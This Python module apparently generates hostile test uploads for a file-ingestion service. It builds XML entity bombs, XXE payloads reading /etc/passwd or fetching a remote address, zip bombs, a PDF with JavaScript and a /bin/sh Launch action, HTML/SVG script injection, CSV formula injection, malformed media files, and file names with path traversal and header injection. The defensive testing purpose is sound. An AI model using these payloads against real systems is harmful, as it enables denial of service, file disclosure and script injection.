"""Files made to break whoever opens them, each named by what it does."""

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def package(parts: dict[str, bytes], *, main: str, kind: str) -> bytes:
    """An office package of those parts."""
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        f'package.relationships+xml"/><Override PartName="/{main}" ContentType="{kind}"/></Types>'
    )
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
        f'officeDocument/2006/relationships/officeDocument" Target="{main}"/></Relationships>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", types)
        made.writestr("_rels/.rels", rels)
        for name, data in parts.items():
            made.writestr(name, data)
    return out.getvalue()


def word(xml: str, **more: bytes) -> bytes:
    """A Word document of that XML."""
    parts = {"word/document.xml": xml.encode(), **more}
    return package(parts, main="word/document.xml", kind=WORD)


def _body(text: str, before: str = "") -> str:
    return (
        f'<?xml version="1.0"?>{before}<w:document {_NS}><w:body><w:p><w:r><w:t>{text}</w:t></w:r>'
        "</w:p></w:body></w:document>"
    )


def billion_laughs() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    return word(_body("&l9;", f"<!DOCTYPE w:document [{laughs}]>"))


def quadratic_blow_up() -> bytes:
    entity = f'<!DOCTYPE w:document [<!ENTITY a "{"a" * 100_000}">]>'
    return word(_body("&a;" * 50_000, entity))


def fetching(address: str) -> bytes:
    entity = f'<!DOCTYPE w:document SYSTEM "{address}/dtd" [<!ENTITY x SYSTEM "{address}/x">]>'
    return word(_body("before &x; after", entity))


def reading_a_file() -> bytes:
    return word(_body("&x;", '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))


def linked_elsewhere(address: str) -> bytes:
    """A template and a picture that lie on another server."""
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="r9" TargetMode="External" Type="http://schemas.'
        f'openxmlformats.org/officeDocument/2006/relationships/image" Target="{address}/i.png"/>'
        "</Relationships>"
    )
    return word(_body("A picture."), **{"word/_rels/document.xml.rels": rels.encode()})


def deeply_nested() -> bytes:
    depth = 200_000
    return word(
        f'<?xml version="1.0"?><w:document {_NS}><w:body>{"<w:p>" * depth}{"</w:p>" * depth}'
        "</w:body></w:document>"
    )


def flat_zip_bomb() -> bytes:
    return word(_body("x" * 300_000_000))


def zip_bomb_in_a_sheet() -> bytes:
    row = '<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
    sheet = f"<worksheet><sheetData>{row * 3_000_000}</sheetData></worksheet>".encode()
    return package({"xl/workbook.xml": sheet}, main="xl/workbook.xml", kind=SHEET)


def lying_zip_bomb() -> bytes:
    """Its directory says that each part is tiny; what they unpack to is not."""
    honest = flat_zip_bomb()
    size = struct.pack("<I", len(_body("x" * 300_000_000).encode()))
    return honest.replace(size, struct.pack("<I", 10))


def nested_zip_bomb() -> bytes:
    inner = zlib.compress(b"\0" * 100_000_000, 9)
    for _ in range(3):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
            for n in range(10):
                made.writestr(f"{n}.zip", inner)
        inner = out.getvalue()
    return word(_body("Hello."), **{"word/embeddings/1.zip": inner})


def many_parts() -> bytes:
    return word(_body("Hello."), **{f"word/media/{n}.png": b"" for n in range(20_000)})


def _pdf(*objects: str, root: int = 1) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    places = []
    for n, body in enumerate(objects, start=1):
        places.append(out.tell())
        out.write(f"{n} 0 obj\n{body}\nendobj\n".encode("latin-1"))
    start = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for place in places:
        out.write(f"{place:010d} 00000 n \n".encode())
    out.write(
        f"trailer\n<</Size {len(objects) + 1}/Root {root} 0 R>>\nstartxref\n{start}\n%%EOF".encode()
    )
    return out.getvalue()


def pdf_of_10_000_pages() -> bytes:
    pages = [f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/N {n}>>" for n in range(10_000)]
    kids = " ".join(f"{n + 3} 0 R" for n in range(10_000))
    return _pdf(
        "<</Type/Catalog/Pages 2 0 R>>", f"<</Type/Pages/Count 10000/Kids[{kids}]>>", *pages
    )


def pdf_that_acts() -> bytes:
    return _pdf(
        "<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 5 0 R>>>>",
        "<</Type/Pages/Count 1/Kids[3 0 R]>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
        "<</S/JavaScript/JS(app.alert\\(1\\))>>",
        "<</S/Launch/F(/bin/sh)>>",
    )


def pdf_whose_pages_go_round() -> bytes:
    return _pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>")


def pdf_of_one_huge_stream() -> bytes:
    packed = zlib.compress(b"0 0 m " * 60_000_000, 9).decode("latin-1")
    return _pdf(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Count 1/Kids[3 0 R]>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>",
        f"<</Length {len(packed)}/Filter/FlateDecode>>stream\n{packed}\nendstream",
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of_50_000_pixels_a_side() -> bytes:
    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(b"\0" * 1_000_000, 9)) + _chunk(b"IEND", b"")
    )  # fmt: skip


def jpeg_of_50_000_pixels_a_side() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "JPEG")
    made = bytearray(out.getvalue())
    at = made.index(b"\xff\xc0") + 5
    made[at : at + 4] = struct.pack(">HH", 50_000, 50_000)
    return bytes(made)


def webp_of_16_383_pixels_a_side() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "WEBP", lossless=True)
    made = bytearray(out.getvalue())
    at = made.index(b"VP8L") + 9
    kept = int.from_bytes(made[at : at + 4], "little") >> 28 << 28
    made[at : at + 4] = (kept | 16_382 << 14 | 16_382).to_bytes(4, "little")
    return bytes(made)


def png_with_a_text_bomb() -> bytes:
    head = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    bomb = b"Comment\0\0" + zlib.compress(b"x" * 300_000_000, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"zTXt", bomb)
        + _chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + _chunk(b"IEND", b"")
    )  # fmt: skip


SCRIPT = b"<script>fetch('/evidence')</script><img src=x onerror=alert(1)>"


def picture_that_is_a_page() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "JPEG", comment=b"<html>" + SCRIPT)
    return out.getvalue() + b"<html>" + SCRIPT


def pdf_that_is_a_page_and_a_zip() -> bytes:
    out = io.BytesIO(pdf_that_acts() + b"\n<html>" + SCRIPT)
    with zipfile.ZipFile(out, "a") as made:
        made.writestr("META-INF/MANIFEST.MF", "Main-Class: X")
    return out.getvalue()


def page_with_scripts() -> bytes:
    return b"<!doctype html><html><body onload=alert(1)><p>Dear Mr Lee</p>" + SCRIPT + b"</body>"


def picture_with_scripts() -> bytes:
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script>'
        b'<a href="javascript:alert(1)"><text>x</text></a></svg>'
    )


def table_of_a_million_columns() -> bytes:
    return b"Date," + b"a," * 1_000_000 + b"\n"


def table_of_formulas() -> bytes:
    return b'Date,What\n1/2/2026,"=HYPERLINK(""http://x"")"\n2/2/2026,@SUM(1)\n'


def table_of_one_endless_cell() -> bytes:
    return b'Date,What\n1/2/2026,"' + b"x" * 20_000_000


_MAIL = (
    b"Received: by x; Tue, 3 Mar 2026 14:05:01 +0000\nFrom: a@b.example\nTo: c@d.example\n"
    b"Subject: Refund\nMIME-Version: 1.0\n"
)


def mail_of_endless_parts() -> bytes:
    part = b"--e\nContent-Disposition: attachment; filename=a.txt\n\nx\n"
    return _MAIL + b"Content-Type: multipart/mixed; boundary=e\n\n" + part * 20_000


def mail_of_deep_parts() -> bytes:
    depth = 3_000
    opened = (
        f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n".encode() for n in range(depth)
    )
    return _MAIL + b"".join(opened) + b"Content-Type: text/plain\n\nDear Mr Lee\n"


def mail_within_mail() -> bytes:
    return _MAIL + b"Content-Type: message/rfc822\n\n" * 20_000 + b"Subject: x\n\nDear Mr Lee"


def mail_with_an_endless_header() -> bytes:
    encoded = b" =?utf-8?q?" + b"=41" * 20 + b"?=\n"
    return _MAIL + b"Cc: x" + b"\n" + encoded * 20_000 + b"\nDear Mr Lee"


def mail_with_a_page_in_it() -> bytes:
    return _MAIL + b"Content-Type: text/html; charset=utf-7\n\n<p>Dear Mr Lee</p>" + SCRIPT


def page_that_fetches(address: str) -> bytes:
    return (
        f"<!doctype html><html><head><meta http-equiv=refresh content='0;url={address}/r'>"
        f"<base href='{address}'><link rel=stylesheet href='{address}/s.css'></head>"
        f"<body background='{address}/b.png'><p>Dear Mr Lee</p><img src='{address}/i.png'>"
        f"<iframe src='{address}/f'></iframe><object data='{address}/o'></object>"
        f"<svg><image href='{address}/v'/></svg><style>@import '{address}/c';</style></body>"
    ).encode()


def mail_that_fetches(address: str) -> bytes:
    return _MAIL + b"Content-Type: text/html\n\n" + page_that_fetches(address)


def page_of_controls() -> bytes:
    return b"<!doctype html><html><p>a&#1;b&#xD800;&#xFFFE;\x0cc</p>" + SCRIPT


def deep_page() -> bytes:
    return b"<!doctype html><html>" + b"<ul><li>" * 5_000 + b"x" + SCRIPT


def rich_text_of_deep_groups() -> bytes:
    return b"{\\rtf1 Dear Mr Lee" + b"{\\b " * 200_000


def rich_text_with_objects() -> bytes:
    packed = (
        b"{\\object\\objemb\\objupdate{\\*\\objclass Package}{\\*\\objdata " + b"4d5a" * 200_000
    )
    field = b'{\\field{\\*\\fldinst INCLUDEPICTURE "http://127.0.0.1:9/x"}{\\fldrslt x}}'
    return b"{\\rtf1\\ansi Dear Mr Lee\\par " + field + packed + b"}}}"


def rich_text_of_huge_numbers() -> bytes:
    said = b"\\u99999999999999999999? \\uc9999999999 \\bin999999999 x \\u-99999? Dear Mr Lee"
    return b"{\\rtf1\\ansi\\ansicpg99999 " + said + b"}"


def open_document(kind: str, content: bytes, **more: bytes) -> bytes:
    """An OpenDocument file of that content."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        name = f"application/vnd.oasis.opendocument.{kind}"
        made.writestr("mimetype", name, compress_type=zipfile.ZIP_STORED)
        made.writestr("content.xml", content)
        for part, data in more.items():
            made.writestr(part, data)
    return out.getvalue()


_OPEN = "urn:oasis:names:tc:opendocument:xmlns:"


def _open_xml(inside: str, holder: str = "text", before: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>{before}<o:document-content xmlns:o="{_OPEN}office:1.0" '
        f'xmlns:t="{_OPEN}text:1.0" xmlns:b="{_OPEN}table:1.0"><o:body><o:{holder}>{inside}'
        f"</o:{holder}></o:body></o:document-content>"
    ).encode()


_LAUGHS = (
    "<!DOCTYPE x ["
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    + '<!ENTITY p SYSTEM "file:///etc/passwd">]>'
)


def open_text_that_laughs() -> bytes:
    return open_document("text", _open_xml("<t:p>&l9; &p;</t:p>", before=_LAUGHS))


def open_text_bomb() -> bytes:
    return open_document("text", _open_xml(f"<t:p>{'x' * 300_000_000}</t:p>"))


def open_text_of_a_long_space() -> bytes:
    return open_document("text", _open_xml('<t:p>a<t:s t:c="2000000000"/>b</t:p>' * 9))


def deep_open_text() -> bytes:
    deep = 100_000
    return open_document(
        "text", _open_xml("<t:list><t:list-item>" * deep + "</t:list-item></t:list>" * deep)
    )


def open_sheet_that_laughs() -> bytes:
    table = '<b:table b:name="A"><b:table-row><b:table-cell><t:p>&l9; &p;</t:p>'
    ended = "</b:table-cell></b:table-row></b:table>"
    return open_document("spreadsheet", _open_xml(table + ended, "spreadsheet", _LAUGHS))


def open_sheet_of_repeated_rows() -> bytes:
    wide = 'b:number-columns-repeated="16384" o:value-type="string"'
    cell = f"<b:table-cell {wide}><t:p>x</t:p></b:table-cell>"
    row = f'<b:table-row b:number-rows-repeated="1048576">{cell}</b:table-row>'
    return open_document(
        "spreadsheet", _open_xml(f'<b:table b:name="A">{row}</b:table>', "spreadsheet")
    )


_SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"


def slides(slide: str, *, shown: int = 1) -> bytes:
    """A presentation that shows one slide so many times."""
    ids = "".join(f'<p:sldId id="{n + 256}" r:id="r1"/>' for n in range(shown))
    main = (
        '<?xml version="1.0"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/'
        'presentationml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships"><p:sldIdLst>{ids}</p:sldIdLst></p:presentation>'
    )
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="r1" Type="slide" Target="slides/slide1.xml"/>'
        '<Relationship Id="r2" Type="slide" Target="../../../../etc/passwd"/></Relationships>'
    )
    parts = {
        "ppt/presentation.xml": main.encode(),
        "ppt/_rels/presentation.xml.rels": rels.encode(),
        "ppt/slides/slide1.xml": slide.encode(),
    }
    return package(parts, main="ppt/presentation.xml", kind=_SLIDES)


def _slide(text: str, before: str = "") -> str:
    return (
        f'<?xml version="1.0"?>{before}<p:sld xmlns:p="http://schemas.openxmlformats.org/'
        'presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        f"<p:sp><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:sp></p:sld>"
    )


def slides_that_laugh() -> bytes:
    return slides(_slide("&l9; &p;", _LAUGHS))


def slides_bomb() -> bytes:
    return slides(_slide("x" * 300_000_000))


def one_long_slide_shown_400_times() -> bytes:
    return slides(_slide("x" * 10_000_000), shown=400)


def _sized(name: bytes, content: bytes, size: int | None = None) -> bytes:
    return struct.pack(">I4s", len(content) + 8 if size is None else size, name) + content


_FILM = _sized(b"ftyp", b"isom" + bytes(4) + b"isom")


def film_of_lying_boxes() -> bytes:
    lies = _sized(b"moov", _sized(b"mvhd", bytes(20), 0xFFFFFFFF), 0x7FFFFFFF)
    return _FILM + struct.pack(">I4sQ", 1, b"mdat", 2**64 - 1) + lies


def film_of_boxes_without_end() -> bytes:
    return _FILM + _sized(b"free", b"") * 1_000_000


def film_whose_box_is_its_own() -> bytes:
    return _FILM + struct.pack(">I4sQ", 1, b"free", 8) * 1_000 + _sized(b"free", b"", 4)


def film_of_endless_time() -> bytes:
    header = b"\1" + bytes(19) + struct.pack(">IQ", 1, 2**64 - 1)
    return _FILM + _sized(b"moov", _sized(b"mvhd", header + bytes(200)))


def webm_of_lying_sizes() -> bytes:
    head = b"\x1aE\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08B\x82\x84webm"
    return head + (b"\x18S\x80g\x01" + b"\xff" * 7) * 100_000


def sound_of_lying_lengths() -> bytes:
    form = struct.pack("<HHIIHH", 1, 1, 8000, 0, 0, 0)
    return (
        b"RIFF\xff\xff\xff\xffWAVE" + b"fmt " + struct.pack("<I", 16) + form
        + b"data\xff\xff\xff\xff" + b"LIST\0\0\0\0" * 100_000
    )  # fmt: skip


def mp3_with_a_huge_tag() -> bytes:
    return b"ID3\x04\0\xff\x7f\x7f\x7f\x7f" + b"TXXX\x7f\x7f\x7f\x7f\0\0" * 100_000


def amr_of_empty_frames() -> bytes:
    return b"#!AMR\n" + b"\x78" * 500_000


def heic_of_a_huge_declared_size() -> bytes:
    import pillow_heif
    from PIL import Image

    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (64, 64))).save(out)
    made = out.getvalue()
    assert b"ispe" in made
    at = made.index(b"ispe") + 8
    return made[:at] + struct.pack(">II", 0x7FFFFFFF, 0x7FFFFFFF) + made[at + 8 :]


def heic_of_lying_boxes() -> bytes:
    head = _sized(b"ftyp", b"heic" + bytes(4) + b"mif1heic")
    return head + _sized(b"meta", bytes(4) + _sized(b"iloc", b"\xff" * 64, 0x7FFFFFFF) * 10_000)


def outlook_message_of_looping_sectors() -> bytes:
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    head += struct.pack("<HHHHH6xII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1)
    head += struct.pack("<III", 0, 0, 4096) + struct.pack("<IIIII", 0, 1, 0, 1, 0)
    name = "__properties_version1.0".encode("utf-16-le").ljust(64, b"\0")
    entry = (
        name + struct.pack("<HBBIII", 48, 5, 1, 0, 0, 0) + bytes(36) + struct.pack("<IQ", 0, 2**31)
    )
    # Every sector follows itself.
    return head.ljust(512, b"\0") + struct.pack("<128I", *range(128)) + entry * 400


# What is uploaded under which name; each is read, or refused with a sentence.
HOSTILE: dict[str, Callable[[], bytes]] = {
    "laughs.docx": billion_laughs,
    "quadratic.docx": quadratic_blow_up,
    "passwd.docx": reading_a_file,
    "nested.docx": deeply_nested,
    "flat.docx": flat_zip_bomb,
    "sheet.xlsx": zip_bomb_in_a_sheet,
    "lying.docx": lying_zip_bomb,
    "zips.docx": nested_zip_bomb,
    "parts.docx": many_parts,
    "pages.pdf": pdf_of_10_000_pages,
    "acts.pdf": pdf_that_acts,
    "round.pdf": pdf_whose_pages_go_round,
    "stream.pdf": pdf_of_one_huge_stream,
    "wide.png": png_of_50_000_pixels_a_side,
    "wide.jpg": jpeg_of_50_000_pixels_a_side,
    "wide.webp": webp_of_16_383_pixels_a_side,
    "text.png": png_with_a_text_bomb,
    "page.jpg": picture_that_is_a_page,
    "both.pdf": pdf_that_is_a_page_and_a_zip,
    "page.txt": page_with_scripts,
    "page.html": page_with_scripts,
    "picture.svg": picture_with_scripts,
    "columns.csv": table_of_a_million_columns,
    "formulas.csv": table_of_formulas,
    "cell.csv": table_of_one_endless_cell,
    "parts.eml": mail_of_endless_parts,
    "deep.eml": mail_of_deep_parts,
    "within.eml": mail_within_mail,
    "header.eml": mail_with_an_endless_header,
    "page.eml": mail_with_a_page_in_it,
    "controls.html": page_of_controls,
    "deep.html": deep_page,
    "deep.rtf": rich_text_of_deep_groups,
    "objects.rtf": rich_text_with_objects,
    "numbers.rtf": rich_text_of_huge_numbers,
    "laughs.odt": open_text_that_laughs,
    "bomb.odt": open_text_bomb,
    "space.odt": open_text_of_a_long_space,
    "deep.odt": deep_open_text,
    "laughs.ods": open_sheet_that_laughs,
    "rows.ods": open_sheet_of_repeated_rows,
    "laughs.pptx": slides_that_laugh,
    "bomb.pptx": slides_bomb,
    "often.pptx": one_long_slide_shown_400_times,
    "boxes.mp4": film_of_lying_boxes,
    "endless.mp4": film_of_boxes_without_end,
    "own.m4a": film_whose_box_is_its_own,
    "time.mov": film_of_endless_time,
    "sizes.webm": webm_of_lying_sizes,
    "lengths.wav": sound_of_lying_lengths,
    "tag.mp3": mp3_with_a_huge_tag,
    "frames.amr": amr_of_empty_frames,
    "wide.heic": heic_of_a_huge_declared_size,
    "boxes.heic": heic_of_lying_boxes,
    "loops.msg": outlook_message_of_looping_sectors,
}
NAMES = (
    "../../etc/passwd.txt",
    "C:\\Users\\a\\notes.txt",
    "a\0b.txt",
    "note\u202etxt.exe.txt",
    "x" * 10_000 + ".txt",
    "\r\nSet-Cookie: a=b.txt",
    '".txt',
    "<img src=x onerror=alert(1)>.txt",
)


if __name__ == "__main__":
    sys.stdout.buffer.write(HOSTILE[sys.argv[1]]())
